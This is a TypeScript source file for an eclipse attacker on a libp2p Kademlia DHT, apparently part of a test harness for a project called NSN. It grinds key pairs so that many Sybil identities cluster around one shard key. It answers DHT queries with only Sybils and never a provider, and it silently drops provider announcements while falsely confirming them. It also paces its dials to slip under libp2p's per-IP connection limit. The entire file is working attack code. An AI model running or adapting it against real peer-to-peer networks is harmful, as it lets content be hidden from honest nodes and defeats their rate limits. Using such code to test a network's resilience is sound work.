/**
 * The eclipse attacker: one process, one IP address, many libp2p hosts (Sybils) whose
 * peer ids are ground so that their Kademlia ids (sha-256 of the peer id's multihash)
 * share a long prefix with the Kademlia id of one DHT key (sha-256 of the shard's
 * multihash). Each Sybil:
 *
 * - speaks identify and ping (so kad-dht verifies and admits it), and handles the NSN DHT
 *   protocol itself, without a DHT: FIND_NODE, GET_PROVIDERS, GET_VALUE are answered with
 *   the `answer` Sybils closest to the requested key as closer peers, with their
 *   addresses, and never a provider; PING is echoed;
 * - swallows ADD_PROVIDER (no reply, nothing stored), and lies to the confirmation that
 *   follows it on the same stream: a GET_PROVIDERS there lists the provider that was just
 *   announced, so the provide believes it stored the record (`lie: false` turns this off);
 * - dials every target (the honest daemons), paced at `rate` dials per second per target,
 *   targets in parallel, so each Sybil is identified by, and offered to the routing table
 *   of, every honest node without tripping libp2p's per-IP inbound limit (5 per second);
 *   a dial that fails anyway (dials bunched up on a loaded machine) is tried twice more.
 *
 * Run it with Node 24 (it strips the types itself), inside the attacker's namespace:
 * `node sybil-swarm.ts '<json of SwarmConfig>'`. It writes JSON lines on stdout:
 * `{ event: 'listening', sybils, groundMs }` once every host listens, then
 * `{ event: 'ready', dials, ms }` once every dial ended; diagnostics go to stderr.
 * SIGTERM or SIGINT stops every host.
 *
 * It imports packages only (no relative import), so Node runs the file as it is.
 *
 * @packageDocumentation
 */

import { createHash, generateKeyPairSync } from 'node:crypto'
import { generateKeyPairFromSeed } from '@libp2p/crypto/keys'
import { identify } from '@libp2p/identify'
import type { Libp2p, PrivateKey, Stream } from '@libp2p/interface'
import { MessageType } from '@libp2p/kad-dht'
import { ping } from '@libp2p/ping'
import { multiaddr } from '@multiformats/multiaddr'
import {
  commonPrefixLength,
  decodeKadMessage,
  encodeKadMessage,
  frame,
  type KadMessage,
  type KadPeerInfo,
  uniqueAddrs,
} from '@nsn/core'
import { nsnHostOptions } from '@nsn/core/host'
import { createLibp2p } from 'libp2p'

/** What the swarm is told (one JSON argument). */
export interface SwarmConfig {
  /** The IPv4 address to listen on (the namespace's). */
  ip: string
  /** The shard hash (64 hex) whose key the Sybils surround. */
  shard: string
  /** How many Sybils. */
  count: number
  /** Leading bits every Sybil's Kademlia id shares with the key's. */
  bits: number
  /** Closer peers per answer. Default 20 (k). */
  answer?: number
  /** Multiaddrs (with `/p2p/`) every Sybil dials. */
  targets: string[]
  /** Dials per second per target. Default 4 (libp2p accepts 5 per second per IP). */
  rate?: number
  /** Lie to the confirmation GET_PROVIDERS after an ADD_PROVIDER. Default true. */
  lie?: boolean
  /** The DHT protocol. Default `/nsn/kad/1.0.0`. */
  protocol?: string
}

/** One Sybil as the `listening` line reports it. */
export interface SybilInfo {
  peerId: string
  addr: string
  /** Leading bits its Kademlia id shares with the key's. */
  commonBits: number
}

/** The lines the swarm writes on stdout. */
export type SwarmEvent =
  | { event: 'listening'; sybils: SybilInfo[]; groundMs: number }
  | {
      event: 'ready'
      dials: { ok: number; failed: number; retried: number; errors: string[] }
      ms: number
    }

/** How long one dial may take. */
const DIAL_TIMEOUT_MS = 10_000
/** Attempts per Sybil and target. */
const DIAL_ATTEMPTS = 3
/** Pause before dials that failed are tried again. */
const RETRY_DELAY_MS = 1_500

const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms))

const sha256 = (bytes: Uint8Array): Uint8Array => new Uint8Array(createHash('sha256').update(bytes).digest())

function compareXor(target: Uint8Array, a: Uint8Array, b: Uint8Array): number {
  for (let i = 0; i < target.length; i++) {
    const da = (a[i] ?? 0) ^ (target[i] ?? 0)
    const db = (b[i] ?? 0) ^ (target[i] ?? 0)
    if (da !== db) return da - db
  }
  return 0
}

/** The protobuf `PublicKey` of an Ed25519 key as an identity multihash: the peer id's bytes. */
const ED25519_PEER_ID_PREFIX = Uint8Array.from([0x00, 0x24, 0x08, 0x01, 0x12, 0x20])

/** Ed25519 seeds whose peer ids' Kademlia ids share `bits` leading bits with `kadId`. */
function grind(kadId: Uint8Array, count: number, bits: number): Uint8Array[] {
  const seeds: Uint8Array[] = []
  const id = new Uint8Array(38)
  id.set(ED25519_PEER_ID_PREFIX)
  while (seeds.length < count) {
    const { publicKey, privateKey } = generateKeyPairSync('ed25519')
    id.set(publicKey.export({ format: 'der', type: 'spki' }).subarray(12), 6)
    if (commonPrefixLength(sha256(id), kadId) < bits) continue
    seeds.push(new Uint8Array(privateKey.export({ format: 'der', type: 'pkcs8' }).subarray(16)))
  }
  return seeds
}

/** Reads unsigned-varint length-prefixed frames from a stream. */
async function* frames(stream: Stream, max = 64 * 1024): AsyncGenerator<Uint8Array> {
  let buffer = new Uint8Array(0)
  for await (const chunk of stream) {
    const bytes = chunk instanceof Uint8Array ? chunk : chunk.subarray()
    const joined = new Uint8Array(buffer.byteLength + bytes.byteLength)
    joined.set(buffer)
    joined.set(bytes, buffer.byteLength)
    buffer = joined
    for (;;) {
      let length = 0
      let shift = 0
      let i = 0
      for (; i < buffer.byteLength && i < 5; i++) {
        const byte = buffer[i] as number
        length += (byte & 0x7f) * 2 ** shift
        shift += 7
        if ((byte & 0x80) === 0) break
      }
      if (i >= buffer.byteLength) break // the length prefix is incomplete
      if (length > max) throw new RangeError(`frame of ${length} bytes`)
      if (buffer.byteLength < i + 1 + length) break
      yield buffer.slice(i + 1, i + 1 + length)
      buffer = buffer.subarray(i + 1 + length)
    }
  }
}

interface Sybil {
  libp2p: Libp2p
  kadId: Uint8Array
  info: KadPeerInfo
}

async function main(config: SwarmConfig): Promise<void> {
  const start = performance.now()
  const protocol = config.protocol ?? '/nsn/kad/1.0.0'
  const answer = config.answer ?? 20
  const rate = config.rate ?? 4
  const lie = config.lie ?? true
  const shardMultihash = Uint8Array.from([0x12, 0x20, ...Buffer.from(config.shard, 'hex')])
  const keyKadId = sha256(shardMultihash)

  const seeds = grind(keyKadId, config.count, config.bits)
  const groundMs = performance.now() - start
  const sybils: Sybil[] = []
  const stopAll = async (): Promise<void> => {
    await Promise.allSettled(sybils.map((s) => s.libp2p.stop()))
  }
  for (const signal of ['SIGINT', 'SIGTERM'] as const) {
    process.once(signal, () => {
      void stopAll().finally(() => process.exit(0))
    })
  }

  /** The `answer` Sybils closest to a DHT key, as closer peers. */
  const closest = (key: Uint8Array): KadPeerInfo[] => {
    const target = sha256(key)
    return [...sybils]
      .sort((a, b) => compareXor(target, a.kadId, b.kadId))
      .slice(0, answer)
      .map((s) => s.info)
  }

  const handle = async (stream: Stream): Promise<void> => {
    /** Providers announced on this stream, by key (hex): what the lie confirms. */
    const announced = new Map<string, KadPeerInfo[]>()
    for await (const body of frames(stream)) {
      const msg = decodeKadMessage(body)
      const key = msg.key ?? new Uint8Array(0)
      let reply: Partial<KadMessage> | undefined
      switch (msg.type) {
        case MessageType.ADD_PROVIDER:
          announced.set(Buffer.from(key).toString('hex'), msg.providers)
          break
        case MessageType.PING:
          reply = { type: msg.type }
          break
        default: {
          const providers = lie ? (announced.get(Buffer.from(key).toString('hex')) ?? []) : []
          reply = { type: msg.type, key, closer: closest(key), providers }
        }
      }
      if (reply != null && !stream.send(frame(encodeKadMessage(reply)))) await stream.onDrain()
    }
    await stream.close()
  }

  await Promise.all(
    seeds.map(async (seed) => {
      const privateKey: PrivateKey = await generateKeyPairFromSeed('Ed25519', seed)
      const { services: _, ...host } = nsnHostOptions({
        listen: [`/ip4/${config.ip}/tcp/0`],
        privateKey,
        inboundConnectionThreshold: 1_000_000,
        maxIncomingPendingConnections: 1_000,
        connectionMonitorInterval: 0,
      })
      const libp2p = await createLibp2p({ ...host, services: { identify: identify(), ping: ping() } })
      const addr = libp2p.getMultiaddrs()[0]
      if (addr == null) throw new Error(`Sybil ${libp2p.peerId} has no listen address`)
      await libp2p.handle(
        protocol,
        async (stream) => {
          try {
            await handle(stream)
          } catch (err) {
            stream.abort(err instanceof Error ? err : new Error(String(err)))
          }
        },
        { maxInboundStreams: 1024 },
      )
      const peerIdBytes = libp2p.peerId.toMultihash().bytes
      sybils.push({
        libp2p,
        kadId: sha256(peerIdBytes),
        info: { id: peerIdBytes, multiaddrs: uniqueAddrs([addr]).map((a) => a.bytes) },
      })
    }),
  )
  // nearest the key first: those are the ones that must reach every table
  sybils.sort((a, b) => compareXor(keyKadId, a.kadId, b.kadId))
  write({
    event: 'listening',
    groundMs: Math.round(groundMs),
    sybils: sybils.map((s) => ({
      peerId: s.libp2p.peerId.toString(),
      addr: s.libp2p.getMultiaddrs()[0]?.toString() ?? '',
      commonBits: commonPrefixLength(s.kadId, keyKadId),
    })),
  })

  const dials = { ok: 0, failed: 0, retried: 0, errors: [] as string[] }
  const gap = 1000 / rate
  await Promise.all(
    config.targets.map(async (target) => {
      const addr = multiaddr(target)
      const failures: Sybil[] = []
      const dialAll = async (list: Sybil[]): Promise<void> => {
        const pending: Array<Promise<void>> = []
        for (const [i, sybil] of list.entries()) {
          if (i > 0) await sleep(gap)
          pending.push(
            sybil.libp2p.dial(addr, { signal: AbortSignal.timeout(DIAL_TIMEOUT_MS) }).then(
              () => {
                dials.ok++
              },
              (err: unknown) => {
                failures.push(sybil)
                if (dials.errors.length < 10) dials.errors.push(`${target}: ${(err as Error).message}`)
              },
            ),
          )
        }
        await Promise.all(pending)
      }
      await dialAll(sybils)
      // a refusal by the per-IP limit (dials bunched up on a loaded machine) is retried, slower
      for (let attempt = 1; attempt < DIAL_ATTEMPTS && failures.length > 0; attempt++) {
        await sleep(RETRY_DELAY_MS)
        dials.retried += failures.length
        await dialAll(failures.splice(0))
      }
      dials.failed += failures.length
    }),
  )
  write({ event: 'ready', dials, ms: Math.round(performance.now() - start) })
}

function write(event: SwarmEvent): void {
  process.stdout.write(`${JSON.stringify(event)}\n`)
}

const arg = process.argv[2]
if (arg == null) {
  process.stderr.write('usage: node sybil-swarm.ts <json SwarmConfig>\n')
  process.exit(64)
}
main(JSON.parse(arg) as SwarmConfig).catch((err: unknown) => {
  process.stderr.write(`sybil swarm failed: ${(err as Error).stack ?? String(err)}\n`)
  process.exit(1)
})
